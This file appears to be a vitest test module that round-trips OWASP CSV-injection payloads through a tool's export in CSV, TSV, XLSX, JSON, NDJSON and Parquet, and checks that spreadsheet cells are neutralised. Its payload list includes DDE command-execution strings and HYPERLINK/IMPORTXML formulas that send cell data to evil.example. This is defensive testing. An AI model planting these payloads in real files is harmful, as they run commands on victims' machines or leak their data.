// CSV injection (OWASP): payloads in every text field a user controls go through `murmur export`
// in every format and are read back with the readers a user would use (csv-parse, exceljs,
// hyparquet). Spreadsheet formats must neutralise every cell that starts with = + - @, tab or CR
// (a leading apostrophe), keep everything else value for value, and never hold a formula cell;
// data formats (JSON, NDJSON, Parquet) must keep the original text exactly.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { parquetReadObjects } from 'hyparquet';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import { runMurmur } from '../lib/cli';
import { buildHostileDb } from '../lib/hostileDb';

/** OWASP CSV-injection cases; \t and \r starts cannot live in a text fixture, so they are here. */
export const CSV_PAYLOADS = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(1+1)*cmd|\' /C calc\'!A0',
	"=cmd|' /C calc'!A0",
	'=HYPERLINK("http://evil.example/?leak="&A1,"Click for more")',
	'=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
	"-2+3+cmd|' /C calc'!'E2'",
	'\t=1+1',
	'\r=1+1',
	'=1+1\n=2+2',
	'@mention a perfectly ordinary reply',
	"'=already quoted",
	'"=1+1"',
	'=1+1,=2+2;=3+3',
	'safe text, with "quotes", commas\nand a newline 🌍🤝🕊️ שלום'
];

const DANGEROUS_START = /^[=+\-@\t\r]/;
/** The oracle, written independently of src/lib/export/cells.ts. */
export const neutralised = (s: string) => (DANGEROUS_START.test(s) ? "'" + s : s);
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;

// Every text column a user controls, plus the keys to find the row again.
const COLUMNS = [
	'article_external_id',
	'comment_external_id',
	'article_title',
	'article_url',
	'article_section',
	'author',
	'author_name',
	'text',
	'stance_target',
	'topics',
	'sentiment_score'
];
type Row = Record<string, unknown>;

/** What each exported row must hold, by comment external id. */
function expectations(dir: string) {
	const corpus = buildHostileDb(join(dir, 'csv.db'), CSV_PAYLOADS);
	const expected = new Map<string, Record<string, string | null>>();
	for (const c of corpus.comments) {
		const i = CSV_PAYLOADS.indexOf(c.payload);
		const kind = c.externalId.split('-')[1];
		expected.set(c.externalId, {
			article_title: c.payload,
			article_url: c.payload,
			article_section: i % 2 ? c.payload : 'World',
			author: kind === 'author' ? c.payload : kind === 'text' ? `reader${i}` : `reader${i}b`,
			author_name: kind === 'author' ? c.payload : kind === 'text' ? `reader${i}` : `reader${i}b`,
			text: kind === 'text' ? c.payload : kind === 'author' ? `An ordinary remark about the story number ${i}` : `Replying to this: ${c.payload}`,
			stance_target: c.payload
		});
	}
	return { db: join(dir, 'csv.db'), expected, total: corpus.comments.length };
}

/** Exports through the CLI, or through the dashboard's /export.<format> endpoint at `baseUrl`. */
async function exportTo(db: string, dir: string, format: string, baseUrl?: string): Promise<string> {
	const out = join(dir, `out.${format}`);
	if (baseUrl) {
		const res = await fetch(`${baseUrl}/export.${format}?columns=${COLUMNS.join(',')}`);
		expect(res.status, `GET /export.${format}`).toBe(200);
		writeFileSync(out, Buffer.from(await res.arrayBuffer()));
		return out;
	}
	const r = await runMurmur(db, ['export', '--format', format, '--columns', COLUMNS.join(','), '--out', out]);
	expect(r.stderr, `murmur export --format ${format}`).toBe('');
	expect(r.code).toBe(0);
	return out;
}

function checkSpreadsheetRows(format: string, rows: Row[], exp: ReturnType<typeof expectations>) {
	expect(rows.length, `${format}: rows`).toBe(exp.total);
	for (const row of rows) {
		const want = exp.expected.get(String(row.comment_external_id));
		expect(want, `${format}: unexpected row ${row.comment_external_id}`).toBeDefined();
		for (const [col, value] of Object.entries(want!)) {
			const got = row[col] === null || row[col] === undefined ? '' : String(row[col]);
			// XML cannot keep a carriage return in a cell: XLSX stores CR and CR LF as LF (documented in the README).
			const want = value === null ? '' : neutralised(value);
			expect(got, `${format} ${row.comment_external_id} ${col}`).toBe(format === 'xlsx' ? want.replace(/\r\n?/g, '\n') : want);
		}
		// Whatever the column, no cell may start like a formula unless it is a number murmur wrote.
		for (const [col, v] of Object.entries(row)) {
			const s = v === null || v === undefined ? '' : String(v);
			if (DANGEROUS_START.test(s)) expect(NUMBER.test(s), `${format} ${row.comment_external_id} ${col} starts like a formula: ${JSON.stringify(s)}`).toBe(true);
		}
		// Topics are a JSON array of the payload: the cell starts with "[" and round-trips.
		expect(JSON.parse(String(row.topics)), `${format} topics`).toEqual([want!.stance_target]);
	}
}

function checkDataRows(format: string, rows: Row[], exp: ReturnType<typeof expectations>) {
	expect(rows.length, `${format}: rows`).toBe(exp.total);
	for (const row of rows) {
		const want = exp.expected.get(String(row.comment_external_id))!;
		expect(want, `${format}: unexpected row ${row.comment_external_id}`).toBeDefined();
		for (const [col, value] of Object.entries(want)) expect(row[col], `${format} ${row.comment_external_id} ${col}`).toBe(value);
		expect(row.topics, `${format} topics`).toEqual([want.stance_target]);
	}
}

/** The hostile database for the round trip (build it once, then export it through CLI or HTTP). */
export const buildCsvInjectionDb = (dir: string) => expectations(dir);

export async function csvInjectionRoundTrip(
	dir: string,
	formats = ['csv', 'tsv', 'xlsx', 'json', 'ndjson', 'parquet'],
	via: { exp?: ReturnType<typeof expectations>; baseUrl?: string } = {}
): Promise<Record<string, number>> {
	const exp = via.exp ?? expectations(dir);
	const checked: Record<string, number> = {};
	for (const format of formats) {
		const file = await exportTo(exp.db, dir, format, via.baseUrl);
		let rows: Row[];
		if (format === 'csv' || format === 'tsv') {
			rows = parse(readFileSync(file), { columns: true, delimiter: format === 'csv' ? ',' : '\t', bom: true, relax_column_count: false });
			checkSpreadsheetRows(format, rows, exp);
		} else if (format === 'xlsx') {
			const wb = new ExcelJS.Workbook();
			await wb.xlsx.readFile(file);
			const sheet = wb.worksheets[0];
			const header = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
			rows = [];
			sheet.eachRow((r, n) => {
				if (n === 1) return;
				const row: Row = {};
				r.eachCell({ includeEmpty: true }, (cell, col) => {
					// A formula cell is the injection itself, whatever its text.
					expect(cell.type, `xlsx ${header[col - 1]} row ${n} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
					row[header[col - 1]] = cell.value === null ? '' : cell.type === ExcelJS.ValueType.RichText ? (cell.value as ExcelJS.CellRichTextValue).richText.map((t) => t.text).join('') : cell.value;
				});
				rows.push(row);
			});
			checkSpreadsheetRows(format, rows, exp);
		} else if (format === 'json') {
			const parsed = JSON.parse(readFileSync(file, 'utf8'));
			rows = Array.isArray(parsed) ? parsed : parsed.rows;
			checkDataRows(format, rows, exp);
		} else if (format === 'ndjson') {
			rows = readFileSync(file, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l));
			checkDataRows(format, rows, exp);
		} else {
			const buf = readFileSync(file);
			const ab = buf.buffer.slice(buf.byteOffset, buf.byteOffset + buf.byteLength);
			rows = (await parquetReadObjects({ file: ab })) as Row[];
			checkDataRows(format, rows, exp);
		}
		checked[format] = rows.length;
	}
	return checked;
}
